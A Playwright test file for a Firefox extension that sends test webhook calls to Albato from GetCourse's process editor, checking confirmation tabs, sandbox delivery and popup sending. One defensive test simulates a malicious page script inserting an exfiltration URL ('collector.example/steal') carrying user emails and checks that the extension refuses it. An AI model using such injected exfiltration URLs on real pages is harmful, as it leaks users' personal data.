/**
 * "Test this URL" in Firefox ESR, inside the process editor's block modal (fact sheet R.2), end
 * to end with a real Albato-shaped host: h.albato.ru resolves to the sandbox (A33), the extension
 * has no access to it; Send… in the panel opens the call in the extension's own tab, whose Send
 * (focused: Playwright cannot read moz-extension:// pages, so keyboard) asks for access to that host
 * and sends; the call then reaches the receiver with the GetCourse-shaped query. A page script's
 * typing does not count as the admin's (README, Security).
 */
import {
  artifact,
  CALL_URL_FIELD,
  closeBlock,
  launchFirefox,
  MODAL,
  openBlock,
  openCallUrlBlock,
  openPopupFirefox,
  useE2eSuite,
} from './harness';
import { pressAsAdmin } from './harness/admin-press';
import { schoolUrl } from './harness/sandbox';

const { sandbox, browser, page } = useE2eSuite(() => launchFirefox({ lang: 'ru' }));
const panel = () => page.locator(`${MODAL} [data-gc-albato="call-url-test"] .gc-test`);

describe('Firefox: test this URL', () => {
  it('Send… opens the call in the extension’s tab; its Send asks for h.albato.ru and the call reaches Albato’s (sandbox) receiver', async () => {
    await openCallUrlBlock(page, schoolUrl(sandbox, '/pl/tasks/mission/process?id=101'), 2, 15_000);
    await pressAsAdmin(panel().locator('.gc-test-open'));
    await page
      .locator(CALL_URL_FIELD)
      .fill(`https://h.albato.ru:${sandbox.httpsPort}/wh/38/1lfAbCd/token/?email={object.email}&city={object.city}`);
    const [confirmation] = await Promise.all([
      browser.context.waitForEvent('page', { timeout: 10_000 }),
      pressAsAdmin(panel().locator('.gc-test-send')),
    ]);
    await confirmation.waitForTimeout(1_500);
    expect(confirmation.url()).toMatch(new RegExp(`^${browser.extensionOrigin}/popup\\.html\\?call=.+#webhook$`));
    expect(await panel().locator('[data-code="opened"]').textContent()).toContain('Вкладка расширения с этим вызовом открыта');
    expect(sandbox.webhookCalls()).toHaveLength(0);

    await confirmation.keyboard.press('Enter'); // «Отправить тестовый вызов» has the focus
    await expect.poll(() => sandbox.webhookCalls().length, { timeout: 10_000 }).toBe(1);
    expect(sandbox.webhookCalls()).toEqual([
      expect.objectContaining({
        method: 'GET',
        path: '/wh/38/1lfAbCd/token/',
        query: { email: 'test+albato@example.com', city: 'Москва' },
      }),
    ]);
    await confirmation.waitForTimeout(500);
    await confirmation.screenshot({ path: artifact('firefox-call-confirmation.png'), fullPage: true });
    // The answer stays in the extension's tab: the page shows none.
    expect(await panel().locator('.gc-answer, .gc-body').count()).toBe(0);

    // Closed and reopened: the saved URL is back in the field and a fresh panel is there, once.
    await page.bringToFront();
    await closeBlock(page);
    expect(await page.locator('[data-gc-albato="call-url-test"]').count()).toBe(0);
    await openBlock(page, 2);
    await panel().locator('.gc-test-open').waitFor();
    expect(await page.locator('[data-gc-albato="call-url-test"]').count()).toBe(1);
    expect(await page.locator(CALL_URL_FIELD).inputValue()).toContain('https://h.albato.ru/wh/38/');
  });

  it('a page script typing with execCommand (a trusted input event) is not the admin typing: their Send… is refused, nothing opens', async () => {
    sandbox.reset();
    await openCallUrlBlock(page, schoolUrl(sandbox, '/pl/tasks/mission/process?id=101'), 2, 15_000);
    await pressAsAdmin(panel().locator('.gc-test-open'));
    await page.evaluate((field) => {
      const input = document.querySelector(field) as HTMLInputElement;
      input.focus();
      input.select();
      document.execCommand('insertText', false, 'https://collector.example/steal?e={object.email}');
    }, CALL_URL_FIELD);
    expect(await panel().locator('.gc-request').textContent()).toContain('https://collector.example/steal');
    await pressAsAdmin(panel().locator('.gc-test-send'));
    const refused = panel().locator('.gc-finding[data-code="untyped-target"]');
    expect(await refused.textContent({ timeout: 10_000 })).toContain('адрес https://collector.example вы не набирали');
    expect(sandbox.webhookCalls()).toHaveLength(0);
  });

  it('popup webhook test: the Send click itself asks for h.albato.com and the call goes out', async () => {
    sandbox.reset();
    await openCallUrlBlock(page, schoolUrl(sandbox, '/pl/tasks/mission/process?id=101'), 2, 15_000); // its URL is remembered: the popup offers a picker
    await panel().waitFor({ timeout: 15_000 });
    const popup = await openPopupFirefox(browser, schoolUrl(sandbox, '/pl/sales/offer/index'), 'webhook');
    for (let i = 0; i < 2; i++) await popup.keyboard.press('Tab'); // the «Вебхук» tab → webhook URL
    await popup.keyboard.type(`https://h.albato.com:${sandbox.httpsPort}/wh/21/1abCdEf/token/?id={object.id}&phone={object.phone}`);
    for (const _stop of ['picker of remembered URLs', 'method', 'sample']) await popup.keyboard.press('Tab');
    await popup.keyboard.press('Tab'); // «Отправить тестовый вызов»
    await popup.keyboard.press('Enter');
    await expect.poll(() => sandbox.webhookCalls().length, { timeout: 10_000 }).toBe(1);
    expect(sandbox.webhookCalls()[0]).toMatchObject({ path: '/wh/21/1abCdEf/token/', query: { id: '0', phone: '+79990000000' } });
    await popup.waitForTimeout(500);
    await popup.screenshot({ path: artifact('firefox-popup-webhook-test.png'), fullPage: true });
  });
});
